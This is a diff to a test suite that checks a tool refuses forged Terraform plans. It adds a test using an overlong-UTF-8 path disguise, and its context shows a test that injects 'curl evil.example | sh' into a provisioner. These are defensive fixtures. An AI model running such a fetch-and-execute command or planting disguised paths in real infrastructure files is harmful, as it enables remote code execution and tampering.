@@ -305,6 +305,13 @@ describe("without a key, what contradicts itself or the environment is refused",
     );
   });
 
+  it("H041: a path that only a lenient reader takes for the same", () => {
+    const one = byName("workspace");
+    // An overlong "a" (0xC1 0xA1): no UTF-8, and for terraform another file.
+    const forged = forge(one, replaceIn(/^tfplan$/, "state/main.tfstate", "st\u00c1\u00a1te/ain.tfstate"));
+    expect(refusal(forged, one)).toMatch(/damaged plan inside/);
+  });
+
   it("a consistent plan with another command in a provisioner", () => {
     const one = byName("first");
     const forged = forge(one, replaceIn(/main\.tf$/, "echo hello", "curl evil.example | sh"));
